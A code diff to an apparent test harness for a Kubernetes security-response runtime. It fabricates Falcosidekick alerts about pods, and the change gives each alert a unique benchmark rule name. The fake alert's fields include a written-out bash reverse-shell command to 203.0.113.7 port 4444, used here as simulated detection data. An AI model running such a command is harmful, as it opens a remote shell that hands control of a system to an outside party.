@@ -1,4 +1,4 @@
-"""A whole runtime as `molt up` starts it, each part a process of its own, with pods to be attacked and a policy for them.
+"""A whole runtime as `molt up` starts it, each part a process of its own, with pods to be attacked and a policy.
 
 On the embedded cluster, or on the real control plane of testbed/ (`--cluster real`).
 """
@@ -36,7 +36,7 @@ if TYPE_CHECKING:
     Pod = dict[str, Any]
 
 NEVER: Final = "0 0 1 1 *"  # a clock that stands still: it ticks once a year
-RULE: Final = "Reverse Shell from Web Server"
+RULE: Final = "Bench*"
 PODS_PER_NODE: Final = 100
 NO_LIMITS: Final = {"perWorkload": 10_000, "perMinute": 10_000}
 _PATIENCE = 120.0  # seconds that anything may take on a busy machine
@@ -227,19 +227,23 @@ def key(pod: Pod) -> str:
     return f"{pod['metadata']['namespace']}/{pod['metadata']['name']}"
 
 
-def alert(pod: Pod) -> tuple[dict[str, str], bytes]:
-    """Return headers and body of Falcosidekick's request for a new alert about a pod."""
+def alert(pod: Pod, rule: str = "") -> tuple[dict[str, str], bytes]:
+    """Return headers and body of Falcosidekick's request for a new alert about a pod.
+
+    Its rule is one of its own unless one is named: to detect-router it repeats no other.
+    """
     fields = {
         "container.id": pod["status"]["containerStatuses"][0]["containerID"].rpartition("/")[2][:12],
         "k8s.ns.name": pod["metadata"]["namespace"],
         "k8s.pod.name": pod["metadata"]["name"],
         "proc.cmdline": "bash -c 'exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1'",
     }
+    identity = str(uuid.uuid4())
     said = {
-        "uuid": str(uuid.uuid4()),
+        "uuid": identity,
         "output": f"Reverse shell from a web server (user=www-data {' '.join(f'{k}={v}' for k, v in fields.items())})",
         "priority": "Critical",
-        "rule": RULE,
+        "rule": rule or f"Bench {identity}",
         "time": datetime.now(UTC).isoformat(),
         "source": "syscall",
         "output_fields": fields,
